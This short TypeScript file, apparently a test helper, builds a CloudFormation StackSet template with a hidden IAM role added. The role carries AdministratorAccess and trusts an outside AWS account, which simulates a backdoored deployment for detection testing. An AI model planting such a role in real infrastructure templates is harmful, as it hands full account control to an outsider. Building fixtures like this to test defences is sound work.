/** The name of the role that somebody hides in a StackSet. */
export const HIDDEN_ROLE = "Hidden";

/** A template with one role more: an administrator's, which trusts a stranger. */
export function withHiddenRole(templateBody = "{}"): string {
  const template = JSON.parse(templateBody) as { readonly Resources?: object };
  const Principal = { AWS: "arn:aws:iam::999988887777:root" };
  const Statement = [{ Effect: "Allow", Principal, Action: "sts:AssumeRole" }];
  const Properties = {
    RoleName: HIDDEN_ROLE,
    AssumeRolePolicyDocument: { Version: "2012-10-17", Statement },
    ManagedPolicyArns: ["arn:aws:iam::aws:policy/AdministratorAccess"],
  };
  const Resources = { ...template.Resources, Hidden: { Type: "AWS::IAM::Role", Properties } };
  return JSON.stringify({ ...template, Resources });
}
